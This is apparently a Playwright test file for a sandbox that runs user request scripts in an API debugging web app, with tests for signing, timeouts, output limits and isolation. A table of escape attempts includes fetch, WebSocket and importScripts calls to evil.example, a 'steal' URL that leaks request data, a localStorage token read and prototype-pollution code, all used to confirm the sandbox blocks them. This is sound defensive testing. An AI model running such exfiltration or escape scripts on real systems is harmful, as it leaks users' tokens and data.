import type { Page } from '@playwright/test'
import type { SentRequest } from '#core/debug/exchange.ts'
import type { ScriptPhase } from '#core/debug/script/plain.ts'
import type { ScriptsResult } from '../web/features/debug/script/run-scripts.ts'
import { bundleForBrowser } from './testing/browser-bundle.ts'
import { expect, test } from './testing/server.ts'

const LIBRARY = '/assets/library-of-the-test.js'

// What the browser reports when a script tries what it may not.
test.use({ expectedComplaints: ['Content Security Policy', 'ERR_BLOCKED', 'Failed to load resource'] })

const bundles = (async () => {
  const library = await bundleForBrowser('web/features/debug/script/script-worker.ts', 'library')
  const address = { name: 'address', resolveId: (id: string) => (id.endsWith('?one-script') ? '\0address' : null) }
  const load = (id: string) => (id === '\0address' ? `export default ${JSON.stringify(LIBRARY)}` : null)
  const page = await bundleForBrowser('e2e/testing/script-entry.ts', 'scriptParts', [
    { ...address, enforce: 'pre', load },
  ])
  return { library, page }
})()

interface Asked {
  phase?: ScriptPhase
  scripts: string[]
  /** The body of the answer in the after phase. */
  answered?: string
}

/** Runs scripts in the real frame on a page of ours. Requests are answered by the test. */
async function run(page: Page, { phase = 'pre', scripts, answered = '' }: Asked) {
  return page.evaluate(
    async ([phaseName, texts, body]) => {
      const { scriptParts } = globalThis as unknown as { scriptParts: typeof import('./testing/script-entry.ts') }
      const sent: SentRequest[] = []
      const answerOf = (text: string) => {
        const bytes = new TextEncoder().encode(text)
        const headers = [{ name: 'Content-Type', value: 'application/json' }]
        return { status: 200, statusText: 'OK', headers, bytes, size: bytes.length, timing: { total: 1 } }
      }
      const result: ScriptsResult = await scriptParts.runScripts(phaseName, {
        scripts: texts.map((content, index) => ({ name: `script ${index + 1}`, content })),
        request: {
          method: 'POST',
          url: 'https://api.example/orders',
          params: [{ name: 'a', value: '1' }],
          headers: [],
          body: { kind: 'text', text: '{"n":1}' },
        },
        ...(phaseName === 'after' && { answer: answerOf(body) }),
        variables: { kept: 'yes' },
        send: async (request) => {
          sent.push(request)
          return answerOf('{"token":"t-1"}')
        },
        signal: new AbortController().signal,
      })
      return { ...result, sent, frames: document.querySelectorAll('iframe').length }
    },
    [phase, scripts, answered] as const,
  )
}

test.beforeEach(async ({ page }) => {
  const { library, page: code } = await bundles
  await page.route(`**${LIBRARY}`, (route) => route.fulfill({ contentType: 'text/javascript', body: library }))
  await page.goto('/login?lang=en')
  await page.evaluate(`${code}; globalThis.scriptParts = scriptParts; scriptParts.startTexts()`)
})

test('a script signs a request with a token that it fetched, and nothing stays behind', async ({ page }) => {
  const {
    request,
    sent,
    console: lines,
    tests,
    variables,
    error,
    frames,
  } = await run(page, {
    scripts: [
      `const { data } = await lib.axios.get('/login')
       req.headers.Authorization = 'Bearer ' + data.token
       vars.set('token', data.token)`,
      `req.params.sign = lib.CryptoJS.MD5(JSON.stringify(req.data) + vars.get('token')).toString()
       console.log('signed', req.params)
       test('is signed', () => expect(req.params.sign).toHaveLength(32))`,
    ],
  })
  expect(error).toBeUndefined()
  expect(sent.map(({ url }) => url)).toEqual(['https://api.example/login'])
  expect(request.headers).toEqual([{ name: 'Authorization', value: 'Bearer t-1' }])
  expect(request.params.map(({ name }) => name)).toEqual(['a', 'sign'])
  expect(lines).toMatchObject([{ level: 'log', source: 'script 2' }])
  expect(tests).toEqual([{ name: 'is signed', isPassed: true, message: '' }])
  expect(variables).toEqual({ kept: 'yes', token: 't-1' })
  expect(frames).toBe(0)
})

test('a script sends the request itself, and another one changes what is shown', async ({ page }) => {
  const pre = await run(page, { scripts: ['req.headers.x = 1; sys.send(); return true'] })
  expect(pre.error).toBeUndefined()
  expect(pre.answer?.status).toBe(200)
  expect(pre.sent).toEqual([pre.request])
  const after = await run(page, {
    phase: 'after',
    answered: '{"code":"bQ=="}',
    scripts: ['resp.data = lib.CryptoJS.enc.Base64.parse(resp.data.code).toString(lib.CryptoJS.enc.Utf8)'],
  })
  expect(after.shownData).toBe('m')
})

test('faults name the script and the line', async ({ page }) => {
  const thrown = await run(page, { scripts: ['', '\nmissing()'] })
  expect(thrown.error).toBe('Script “script 2”, line 2: ReferenceError: missing is not defined')
  const syntax = await run(page, { scripts: ['const a = 1\nconst b = ;'] })
  expect(syntax.error).toBe("Script “script 1”: SyntaxError: Unexpected token ';'")
  const foreign = await run(page, { scripts: ['lib.loadJs("https://cdn.example/a.js")'] })
  expect(foreign.error).toContain('scripts from other sites cannot be loaded')
})

test('an endless loop is stopped, and the page stays responsive', async ({ page }) => {
  test.setTimeout(60_000)
  const running = run(page, { scripts: ['console.log("before"); for (;;) {}'] })
  await page.getByLabel('Login account').fill('still here')
  await expect(page.getByLabel('Login account')).toHaveValue('still here')
  const { error, console: lines, frames } = await running
  expect(error).toBe('Script “script 1”: stopped, because it worked for longer than 10 seconds')
  expect(lines).toMatchObject([{ text: 'before' }])
  expect(frames).toBe(0)
})

test('what a script tells is bounded', async ({ page }) => {
  const { console: lines, tests } = await run(page, {
    scripts: ['for (let i = 0; i < 1000; i++) { console.log("x".repeat(5000)); test("t", () => {}) }'],
  })
  expect(lines).toHaveLength(200)
  expect(lines[0]?.text).toHaveLength(2000)
  expect(tests).toHaveLength(100)
  const flood = await run(page, {
    scripts: [
      `const post = MessagePort.prototype.postMessage; let port
       MessagePort.prototype.postMessage = function (data) { port = this; post.call(this, data) }
       console.log(1); for (;;) post.call(port, '{"kind":"line","line":{}}')`,
    ],
  })
  expect(flood.error).toContain('more data than a script may')
})

const outside: [what: string, script: string][] = [
  ['the page', 'return String(parent.document)'],
  ['the window', 'return String(window.top)'],
  ['storage', 'return localStorage.getItem("token")'],
  [
    'databases',
    'await new Promise((ok, no) => { const r = indexedDB.open("x"); r.onsuccess = ok; r.onerror = () => no(r.error) })',
  ],
  ['caches', 'await caches.open("x")'],
  ['another site', 'await fetch("https://evil.example/")'],
  [
    'a socket',
    'const s = new WebSocket("wss://evil.example/"); await new Promise((ok, no) => { s.onopen = ok; s.onerror = () => no(new Error("closed")) })',
  ],
  ['a foreign script', 'importScripts("https://evil.example/a.js")'],
  ['text as code', 'return new Function("return 1")()'],
  ['another host by lib.axios', 'await lib.axios.get("https://evil.example/steal?" + req.url)'],
  ['another host by its address', 'req.url = "https://evil.example/"'],
  ['another host by sys.send', 'req.url = "//evil.example/"; await sys.send(); return true'],
]
for (const [what, script] of outside) {
  test(`a script cannot reach ${what}`, async ({ page }) => {
    const { error, sent } = await run(page, { scripts: [script] })
    expect(error).toMatch(/^Script “script 1”/)
    expect(sent).toEqual([])
  })
}

test('the policy refuses a script that calls our own site', async ({ page, server }) => {
  const asked: string[] = []
  page.on('request', (request) => asked.push(request.url()))
  const address = `${server.url}/user/info`
  const { error, sent } = await run(page, {
    scripts: [
      `const refused = new Promise((tell) => addEventListener('securitypolicyviolation', tell))
       await fetch('${address}').catch(() => {})
       const { effectiveDirective, blockedURI } = await refused
       throw new Error(effectiveDirective + ' ' + blockedURI)`,
    ],
  })
  expect(error).toContain(`connect-src ${address}`)
  expect(sent).toEqual([])
  expect(asked).not.toContain(address)
})

test('prototype tricks stay in the frame', async ({ page }) => {
  const { variables, request } = await run(page, {
    scripts: [
      `Object.prototype.polluted = 'yes'; Array.prototype.map = () => 'no'
       req.headers['__proto__'] = { polluted: 1 }; vars.set('__proto__', 'x')`,
    ],
  })
  expect(await page.evaluate(() => 'polluted' in {})).toBe(false)
  expect(variables['kept']).toBe('yes')
  expect(request.url).toBe('https://api.example/orders')
})

// More memory than a tab may have ends the tab: browsers let nobody limit the memory of a worker.
test('a script that takes much memory and does not end is stopped, and the page goes on', async ({ page }) => {
  test.setTimeout(60_000)
  const { error } = await run(page, {
    scripts: [
      'const all = []; while (all.length < 400) all.push(new Array(100000).fill(Math.random())); for (;;) all.length',
    ],
  })
  expect(error).toMatch(/^Script “script 1”/)
  await page.getByLabel('Login account').fill('still here')
})
